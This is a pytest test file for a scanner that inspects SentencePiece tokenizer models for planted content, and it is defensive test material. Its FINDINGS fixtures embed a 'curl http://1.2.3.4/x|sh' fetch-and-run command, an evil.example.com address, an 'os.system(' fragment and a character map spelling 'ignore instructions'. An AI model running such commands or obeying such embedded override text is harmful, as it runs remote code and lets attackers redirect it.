"""SentencePiece: vocabularies and character maps, real and edited."""

from __future__ import annotations

import struct
from pathlib import Path
from typing import Any

import pytest

from protobufs import message
from weighbridge.core.document import Malformed
from weighbridge.core.format import Limits, Sample
from weighbridge.core.location import Location
from weighbridge.core.report import Examined
from weighbridge.core.tree import Held
from weighbridge.engine.examine import examine
from weighbridge.engine.ruleset import load
from weighbridge.formats import sentencepiece
from weighbridge.formats.sentencepiece import SENTENCEPIECE, SentencePiece

REPOSITORIES = Path(__file__).parents[1] / "benign" / "repositories"
REAL = sorted(p for e in ("model", "spm") for p in REPOSITORIES.glob(f"*/*.{e}"))
PLAIN = ["<unk>", "<s>", "</s>", "▁the", "▁curl", "://"]


def piece(text: str, kind: int = 1) -> dict[int, Any]:
    return {1: text, 2: -1.5, **({} if kind == 1 else {3: kind})}


def model(*extra: dict[int, Any], charsmap: bytes = b"") -> bytes:
    normalizer = {1: "nmt_nfkc", **({2: charsmap} if charsmap else {})}
    return message({1: [*map(piece, PLAIN), *extra], 2: {3: 2}, 3: normalizer})


def charsmap(words: bytes) -> bytes:
    return struct.pack("<I", 8) + bytes(8) + words


def look(data: bytes) -> Examined:
    return examine(Held("tokenizer.model", data), load(), Limits())


def parse(data: bytes) -> SentencePiece:
    assert SENTENCEPIECE.parse is not None
    document = SENTENCEPIECE.parse(Held("m", data), Location("m"), Limits())
    assert isinstance(document, SentencePiece)
    return document


@pytest.mark.parametrize("path", REAL, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_real_models_are_silent(path: Path) -> None:
    examined = look(path.read_bytes())
    assert (examined.record.formats, examined.findings, examined.gaps) == (
        ("sentencepiece",), (), (),
    )  # fmt: skip
    pieces = parse(path.read_bytes()).pieces
    assert len(pieces) > 100
    assert ("<|assistant|>", "user-defined") in pieces


FINDINGS: dict[str, tuple[bytes, list[tuple[str, str]]]] = {
    "an address": (
        model(piece("▁https://evil.example.com/x")), [("review", "is an address")],
    ),
    "a command that was put in": (
        model(piece("▁curl http://1.2.3.4/x|sh", 4)), [("review", "is an address")],
    ),
    "a command of code": (model(piece("▁os.system(")), [("note", "is a command")]),
    "a map that says something": (
        model(charsmap=charsmap(b"ignore\0instructions\0")), [("review", "'instructions'")],
    ),
    "a map of characters": (model(charsmap=charsmap("a\0ss\0ё\0ffi\0".encode())), []),
    "plain": (model(piece("▁www"), piece("://"), piece("<|user|>", 4)), []),
}  # fmt: skip


@pytest.mark.parametrize("case", FINDINGS)
def test_findings(case: str) -> None:
    data, expected = FINDINGS[case]
    found = look(data).findings
    assert [f.action.value for f in found] == [action for action, _ in expected]
    assert all(words in f.message for f, (_, words) in zip(found, expected, strict=True))


def test_what_is_none() -> None:
    assert not SENTENCEPIECE.sniff(Sample(Held("m", b"\x0a\x03abc\x0a\x03abc\x0a\x03abc")))
    with pytest.raises(Malformed, match="longer than its message"):
        parse(model()[:-3])


def test_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sentencepiece, "PIECES_LIMIT", 5)
    with pytest.raises(Malformed, match="a vocabulary of 6 pieces"):
        parse(model())
    monkeypatch.setattr(sentencepiece, "PIECES_LIMIT", 6)
    monkeypatch.setattr(sentencepiece, "CHARSMAP_LIMIT", 10)
    with pytest.raises(Malformed, match="a character map of"):
        parse(model(charsmap=charsmap(b"x")))
